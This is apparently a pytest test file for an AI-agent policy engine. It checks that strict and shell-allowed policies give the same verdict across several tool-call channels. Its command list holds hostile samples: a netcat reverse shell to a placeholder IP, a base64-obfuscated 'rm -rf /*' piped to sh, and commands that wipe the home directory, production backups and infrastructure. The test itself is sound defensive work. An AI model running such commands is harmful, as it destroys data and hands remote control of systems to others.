"""Typed shell_exec and a classified shell tool get the same verdict for the same command.

strict blocks shell execution, so a shell tool is shell execution whatever the
command; with shell execution allowed, the analysers decide, identically for
every channel an agent framework may use to send the command.
"""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from agent_os.policies import load_policy

STRICT = load_policy("strict")
ANALYSERS = load_policy(
    {"name": "shell-allowed", "extends": "strict", "disabled_rules": ["action:shell_exec"]}
)

COMMANDS = [
    "ls -la",
    "git status",
    "pytest -q tests/unit",
    "rm -rf ~/",
    "git push --force origin main",
    "kubectl delete namespace production",
    "terraform destroy -auto-approve",
    "aws s3 rm s3://acme-prod-backups --recursive",
    "docker run --rm --privileged ubuntu bash",
    "npm publish --access public",
    "nc -e /bin/sh 203.0.113.50 4444",
    "crontab /tmp/c",
    "echo cm0gLXJmIC8qCg== | base64 -d | sh",
]


def channels(command: str) -> list[tuple[str, dict[str, Any]]]:
    argv = shlex.split(command)
    out = [
        ("typed shell_exec", {"action": "shell_exec", "args": {"command": command}}),
        ("terminal", {"action": "tool_call", "tool": "terminal", "args": {"commands": [command]}}),
        ("bash", {"action": "tool_call", "tool": "bash", "args": {"command": command}}),
        (
            "execute_command",
            {"action": "tool_call", "tool": "execute_command", "args": {"command": command}},
        ),
    ]
    if not any(ch in command for ch in "|;&<>$"):
        out.append(
            (
                "run_command argv",
                {
                    "action": "tool_call",
                    "tool": "run_command",
                    "args": {"command": argv[0], "args": argv[1:]},
                },
            )
        )
        out.append(
            (
                "local_shell argv",
                {"action": "tool_call", "tool": "local_shell", "args": {"command": argv}},
            )
        )
    return [(name, {"agent_id": "a1", **action}) for name, action in out]


@pytest.mark.parametrize("command", COMMANDS)
def test_strict_stops_every_channel_alike(command: str) -> None:
    verdicts = {name: STRICT.evaluate(action) for name, action in channels(command)}
    assert {(v.decision, v.signal) for v in verdicts.values()} == {
        (verdicts["typed shell_exec"].decision, verdicts["typed shell_exec"].signal)
    }, {name: v.rule for name, v in verdicts.items()}
    assert verdicts["typed shell_exec"].decision.value == "deny"


@pytest.mark.parametrize("command", COMMANDS)
def test_with_shell_allowed_the_analysers_decide_alike(command: str) -> None:
    verdicts = {name: ANALYSERS.evaluate(action) for name, action in channels(command)}
    outcomes = {(v.decision, v.rule) for v in verdicts.values()}
    assert len(outcomes) == 1, {name: (v.decision.value, v.rule) for name, v in verdicts.items()}
    harmless = command in ("ls -la", "git status", "pytest -q tests/unit")
    assert verdicts["terminal"].allowed is harmless
